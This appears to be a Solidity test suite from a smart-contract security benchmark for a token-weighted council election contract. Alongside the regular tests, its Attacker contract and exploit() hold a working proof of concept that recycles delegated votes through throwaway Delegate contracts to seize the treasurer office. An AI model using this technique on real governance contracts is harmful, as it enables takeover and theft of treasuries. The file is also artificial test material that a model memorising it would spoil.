// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./CouncilElection.sol";
import {Pausable} from "@openzeppelin/contracts@5.4.0/utils/Pausable.sol";

// assay-canary-84881d9c-3a68-4d5c-90ec-3ce8c7e6a131

interface Vm {
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function deal(address who, uint256 amount) external;
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Delegate {
    function nominate(CouncilElection council, address candidate) external returns (uint256) {
        return council.nominate(candidate);
    }

    function vote(CouncilElection council, uint256 id) external {
        council.vote(id);
    }
}

contract Attacker {
    CouncilElection private council;
    MemberToken private token;
    uint256 private id;

    constructor(CouncilElection c, MemberToken t) {
        council = c;
        token = t;
    }

    function campaign() external {
        uint256 amount = token.balanceOf(address(this));
        token.approve(address(council), amount);
        council.deposit(address(this), amount);
        for (uint256 i = 0; i < 6; ++i) {
            Delegate d = new Delegate();
            council.delegateVotes(address(d), amount);
            if (i == 0) id = d.nominate(council, address(this));
            d.vote(council, id);
            council.undelegateVotes();
            try council.claimReleased() {} catch {
                break;
            }
        }
    }

    function finish() external {
        council.settle(id);
    }
}

/// Takes no ether.
contract Sealed {}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ADMIN = address(0xAD);
    address private constant GUARDIAN = address(0x6A);
    address private constant SETTINGS = address(0x5E);
    address private constant TREASURER = address(0x7E);
    address private constant STRANGER = address(0x57);
    uint256 private constant START = 1_700_000_000;

    MemberToken private token;
    CouncilElection private council;
    Attacker private mallory;
    address[] private members;

    function setUp() public {
        vm.warp(START);
        token = new MemberToken(address(this), 1_000e18);
        council = new CouncilElection(token, ADMIN, TREASURER, 20 ether);
        vm.startPrank(ADMIN);
        council.grantRole(council.GUARDIAN_ROLE(), GUARDIAN);
        council.grantRole(council.SETTINGS_ROLE(), SETTINGS);
        vm.stopPrank();
        vm.deal(address(council), 50 ether);
        for (uint160 i = 1; i < 10; ++i) {
            address member = address(0xC0000 + i);
            members.push(member);
            token.transfer(member, 100e18);
            vm.startPrank(member);
            token.approve(address(council), 100e18);
            council.deposit(member, 90e18);
            vm.stopPrank();
        }
        mallory = new Attacker(council, token);
        token.transfer(address(mallory), 100e18);
    }

    function _delegate(uint256 member, address to, uint256 amount) private {
        vm.prank(members[member]);
        council.delegateVotes(to, amount);
    }

    function _nominate(address by, address candidate) private returns (uint256) {
        vm.prank(by);
        return council.nominate(candidate);
    }

    function _vote(address who, uint256 id) private {
        vm.prank(who);
        council.vote(id);
    }


    /// The next call is made by who, and reverts for this reason.
    function _refuses(address who, string memory reason) private {
        vm.prank(who);
        vm.expectRevert(bytes(reason));
    }

    function test_Regular() public {
        address ada = members[0];
        address bob = members[4];
        vm.prank(members[7]);
        council.withdraw(vm.addr(0x41), 60e18);
        vm.prank(vm.addr(0x41));
        token.transfer(vm.addr(0x42), 30e18);
        _deposits(0x41, false);
        _deposits(0x42, true);
        for (uint256 i = 0; i < 4; ++i) _delegate(i, ada, 90e18);
        require(council.votesOf(ada) == 360e18 && council.totalEscrowed() == 810e18, "delegated");

        // taken back before any vote
        vm.startPrank(members[3]);
        require(council.undelegateVotes() == START, "no lock");
        require(council.claimReleased() == 90e18 && council.votesOf(ada) == 270e18, "taken back");
        council.withdraw(STRANGER, 40e18);
        require(token.balanceOf(STRANGER) == 40e18, "withdrawn");
        council.delegateVotes(ada, 20e18);
        council.delegateVotes(ada, 30e18);
        vm.stopPrank();
        require(council.votesOf(ada) == 320e18, "added");

        vm.prank(SETTINGS);
        council.setThreshold(900);
        require(council.nominationThreshold() == 90e18, "threshold");
        _delegate(4, bob, 90e18);
        uint256 id = _nominate(bob, ada);
        require(council.nominationCount() == 1 && council.lockedUntil(bob) == START + 10 days, "nominated");
        _vote(ada, id);
        _vote(bob, id);
        require(council.nomination(id).votes == 410e18, "votes");
        vm.warp(START + 2 days);
        _delegate(5, members[5], 90e18);
        _delegate(6, members[5], 90e18);
        uint256 other = _nominate(members[5], members[8]);
        _vote(members[5], id);
        _vote(members[5], other);
        vm.prank(members[8]);
        council.decline(other);

        // a delegate of oneself waits until the last vote closes
        vm.startPrank(members[5]);
        require(council.undelegateVotes() == START + 12 days, "locked");
        vm.stopPrank();
        vm.warp(START + 10 days);
        vm.prank(STRANGER);
        council.settle(id);
        require(council.treasurer() == ada && council.firstEligible() == id + 1, "elected");
        vm.warp(START + 12 days);
        vm.startPrank(members[5]);
        require(council.claimReleased() == 90e18 && council.escrowedBy(members[5]) == 90e18, "released");
        vm.stopPrank();
        vm.startPrank(members[1]);
        council.undelegateVotes();
        council.claimReleased();
        council.withdraw(members[1], 90e18);
        token.transfer(members[2], 10e18);
        token.approve(STRANGER, 5e18);
        vm.stopPrank();
        require(token.balanceOf(members[1]) == 90e18, "left");
        vm.prank(STRANGER);
        token.transferFrom(members[1], STRANGER, 5e18);

        // two smaller delegates do not elect
        require(council.stageOf(id) == CouncilElection.Stage.Finished, "finished");
        id = _nominate(bob, bob);
        require(council.stageOf(id) == CouncilElection.Stage.Open, "open");
        _vote(bob, id);
        _vote(ada, id);
        vm.warp(START + 22 days);
        require(council.stageOf(id) == CouncilElection.Stage.Closed, "closed");
        council.settle(id);
        require(council.treasurer() == ada, "less than half does not elect");

        vm.deal(STRANGER, 1 ether);
        vm.prank(STRANGER);
        (bool paid, ) = address(council).call{value: 1 ether}("");
        require(paid && address(council).balance == 51 ether, "funded");
        vm.prank(SETTINGS);
        council.setBudget(30 ether);
        vm.startPrank(ada);
        council.spend(address(0xD1CE), 12 ether, "audit");
        require(address(0xD1CE).balance == 12 ether && council.remainingBudget() == 18 ether, "spent");
        council.resign();
        require(council.treasurer() == address(0), "vacant");
        vm.stopPrank();

        vm.prank(GUARDIAN);
        council.pause();
        vm.startPrank(ADMIN);
        council.unpause();
        council.revokeRole(council.GUARDIAN_ROLE(), GUARDIAN);
        vm.stopPrank();
        vm.startPrank(SETTINGS);
        council.setBudget(10 ether);
        require(council.remainingBudget() == 0, "budget used up");
        council.renounceRole(council.SETTINGS_ROLE(), SETTINGS);
        vm.stopPrank();
        require(!council.hasRole(council.SETTINGS_ROLE(), SETTINGS), "renounced");
    }

    function _permit(uint256 key, uint256 amount) private returns (uint8, bytes32, bytes32) {
        bytes32 what = keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
        bytes32 hash = keccak256(abi.encode(what, vm.addr(key), address(council), amount, 0, START + 1 days));
        return vm.sign(key, keccak256(abi.encodePacked("\x19\x01", token.DOMAIN_SEPARATOR(), hash)));
    }

    function _deposits(uint256 key, bool early) private {
        address kim = vm.addr(key);
        (uint8 v, bytes32 r, bytes32 s) = _permit(key, 30e18);
        if (early) token.permit(kim, address(council), 30e18, START + 1 days, v, r, s);
        vm.prank(kim);
        council.depositWithPermit(30e18, START + 1 days, v, r, s);
        require(council.freeBalance(kim) == 30e18, "with a permit");
    }

    function test_RefusesSetups() public {
        vm.expectRevert("VoteEscrow: zero token");
        new CouncilElection(MemberToken(address(0)), ADMIN, TREASURER, 1 ether);
        vm.expectRevert("TreasuryBudget: zero admin");
        new CouncilElection(token, address(0), TREASURER, 1 ether);
        vm.expectRevert("TreasuryBudget: budget too large");
        new CouncilElection(token, ADMIN, TREASURER, 1_000 ether + 1);
        new CouncilElection(token, ADMIN, TREASURER, 1_000 ether);
    }

    function test_RefusesEscrow() public {
        address ada = members[0];
        _refuses(ada, "VoteEscrow: zero member");
        council.deposit(address(0), 1);
        _refuses(ada, "VoteEscrow: zero amount");
        council.deposit(ada, 0);
        _refuses(ada, "VoteEscrow: amount exceeds free balance");
        council.withdraw(ada, 0);
        _refuses(ada, "VoteEscrow: amount exceeds free balance");
        council.withdraw(ada, 90e18 + 1);
        vm.prank(ada);
        vm.expectRevert();
        council.deposit(ada, 10e18 + 1);
    }

    function test_RefusesPermits() public {
        (uint8 v, bytes32 r, bytes32 s) = _permit(0x41, 30e18);
        vm.prank(members[0]);
        vm.expectRevert();
        council.depositWithPermit(30e18, START + 1 days, v, r, s);
    }

    function test_RefusesDelegations() public {
        address ada = members[0];
        _refuses(ada, "CouncilElection: zero delegate");
        council.delegateVotes(address(0), 1);
        _refuses(ada, "VoteEscrow: amount exceeds free balance");
        council.delegateVotes(ada, 90e18 + 1);
        _refuses(ada, "VoteEscrow: amount exceeds free balance");
        council.delegateVotes(ada, 0);
        _refuses(ada, "CouncilElection: no delegation");
        council.undelegateVotes();
        _refuses(ada, "CouncilElection: nothing to claim");
        council.claimReleased();
        _delegate(0, ada, 50e18);
        _refuses(ada, "CouncilElection: delegated to another");
        council.delegateVotes(members[1], 10e18);
        uint256 id = _nominate(ada, ada);
        vm.warp(START + 3 days);
        _vote(ada, id);
        vm.startPrank(ada);
        require(council.undelegateVotes() == START + 10 days, "locked");
        council.delegateVotes(members[1], 10e18);
        council.undelegateVotes();
        vm.warp(START + 10 days - 1);
        vm.expectRevert("CouncilElection: not released yet");
        council.claimReleased();
        vm.expectRevert("VoteEscrow: amount exceeds free balance");
        council.withdraw(ada, 30e18 + 1);
        vm.warp(START + 10 days);
        council.claimReleased();
        vm.stopPrank();
        require(council.freeBalance(ada) == 90e18, "all released");
    }

    function test_RefusesProposers() public {
        address ada = members[0];
        _refuses(ada, "CouncilElection: too few votes");
        council.nominate(ada);
        _delegate(0, ada, 20e18 - 1);
        _refuses(ada, "CouncilElection: too few votes");
        council.nominate(ada);
        _delegate(0, ada, 1);
        _refuses(ada, "CouncilElection: zero candidate");
        council.nominate(address(0));
        uint256 id = _nominate(ada, members[1]);
        _refuses(ada, "CouncilElection: caller is not the candidate");
        council.decline(id);
        vm.prank(members[1]);
        council.decline(id);
        _refuses(members[1], "CouncilElection: finished");
        council.decline(id);
        _refuses(ada, "CouncilElection: closed");
        council.vote(id);
        vm.warp(START + 10 days);
        vm.expectRevert("CouncilElection: finished");
        council.settle(id);
    }

    function test_RefusesNominationLock() public {
        _delegate(0, members[0], 90e18);
        _nominate(members[0], members[1]);
        vm.startPrank(members[0]);
        council.undelegateVotes();
        vm.expectRevert("CouncilElection: not released yet");
        council.claimReleased();
        vm.stopPrank();
    }

    function test_RefusesVotes() public {
        address ada = members[0];
        _delegate(0, ada, 90e18);
        _delegate(2, members[2], 90e18);
        uint256 id = _nominate(ada, ada);
        _vote(ada, id);
        _refuses(ada, "CouncilElection: already voted");
        council.vote(id);
        _refuses(members[1], "CouncilElection: no votes");
        council.vote(id);
        vm.warp(START + 10 days - 1);
        vm.expectRevert("CouncilElection: still open");
        council.settle(id);
        vm.warp(START + 10 days);
        _refuses(members[2], "CouncilElection: closed");
        council.vote(id);
        council.settle(id);
        vm.expectRevert("CouncilElection: finished");
        council.settle(id);
        require(council.treasurer() == TREASURER, "a tenth does not elect");
    }

    function test_RefusesHalf() public {
        for (uint256 i = 0; i < 5; ++i) _delegate(i, members[0], 90e18);
        _delegate(5, members[0], 50e18);
        uint256 id = _nominate(members[0], members[0]);
        _vote(members[0], id);
        vm.warp(START + 10 days);
        council.settle(id);
        require(council.treasurer() == TREASURER, "half does not elect");
    }

    function test_RefusesLateSettlements() public {
        for (uint256 i = 0; i < 6; ++i) _delegate(i, members[0], 90e18);
        uint256 first = _nominate(members[0], members[1]);
        uint256 second = _nominate(members[0], members[2]);
        uint256 third = _nominate(members[0], members[3]);
        _vote(members[0], first);
        _vote(members[0], second);
        _vote(members[0], third);
        vm.warp(START + 10 days);
        council.settle(second);
        require(council.treasurer() == members[2], "elected");
        vm.expectRevert("CouncilElection: superseded");
        council.settle(first);
        require(council.stageOf(first) == CouncilElection.Stage.Expired, "superseded");
        vm.warp(START + 17 days);
        require(council.stageOf(third) == CouncilElection.Stage.Expired, "too late");
        vm.expectRevert("CouncilElection: too late");
        council.settle(third);
        vm.warp(START + 17 days - 1);
        council.settle(third);
        require(council.treasurer() == members[3], "the last one holds the office");
    }

    function test_RefusesPayments() public {
        _refuses(STRANGER, "TreasuryBudget: caller is not the treasurer");
        council.spend(STRANGER, 1 ether, "");
        _refuses(STRANGER, "TreasuryBudget: caller is not the treasurer");
        council.resign();
        address closed = address(new Sealed());
        vm.startPrank(TREASURER);
        vm.expectRevert("TreasuryBudget: over budget");
        council.spend(STRANGER, 20 ether + 1, "");
        vm.expectRevert("TreasuryBudget: payment failed");
        council.spend(closed, 1 ether, "");
        council.spend(STRANGER, 15 ether, "rent");
        vm.expectRevert("TreasuryBudget: over budget");
        council.spend(STRANGER, 5 ether + 1, "");
        vm.warp(START + 30 days);
        council.spend(STRANGER, 20 ether, "rent");
        vm.stopPrank();
        require(STRANGER.balance == 35 ether, "paid");
    }

    function test_RefusesSettings() public {
        vm.prank(STRANGER);
        vm.expectRevert();
        council.setBudget(1 ether);
        vm.prank(STRANGER);
        vm.expectRevert();
        council.setThreshold(300);
        vm.startPrank(SETTINGS);
        vm.expectRevert("TreasuryBudget: budget too large");
        council.setBudget(1_000 ether + 1);
        vm.expectRevert("CouncilElection: threshold out of bounds");
        council.setThreshold(49);
        vm.expectRevert("CouncilElection: threshold out of bounds");
        council.setThreshold(1_001);
        council.setThreshold(50);
        council.setThreshold(1_000);
        vm.stopPrank();
    }

    function test_RefusesRoles() public {
        bytes32 role = council.GUARDIAN_ROLE();
        vm.prank(STRANGER);
        vm.expectRevert();
        council.grantRole(role, STRANGER);
        vm.prank(STRANGER);
        vm.expectRevert();
        council.revokeRole(role, GUARDIAN);
        vm.prank(STRANGER);
        vm.expectRevert();
        council.renounceRole(role, GUARDIAN);
        require(council.hasRole(role, GUARDIAN), "still there");
    }

    function test_RefusesWhilePaused() public {
        vm.prank(STRANGER);
        vm.expectRevert();
        council.pause();
        _delegate(0, members[0], 90e18);
        uint256 id = _nominate(members[0], members[0]);
        vm.startPrank(GUARDIAN);
        council.pause();
        vm.expectRevert();
        council.unpause();
        vm.stopPrank();
        vm.startPrank(members[0]);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        council.nominate(members[0]);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        council.vote(id);
        vm.stopPrank();
        vm.prank(TREASURER);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        council.spend(STRANGER, 1 ether, "");
        vm.prank(members[1]);
        council.withdraw(members[1], 90e18);
        require(token.balanceOf(members[1]) == 100e18, "members leave at any time");
    }

    function exploit() public {
        mallory.campaign();
        vm.warp(START + 10 days);
        mallory.finish();
    }

    function test_Exploit() public {
        exploit();
        require(council.treasurer() == address(mallory), "not elected");
    }

    function target() public view returns (address) {
        return address(council);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
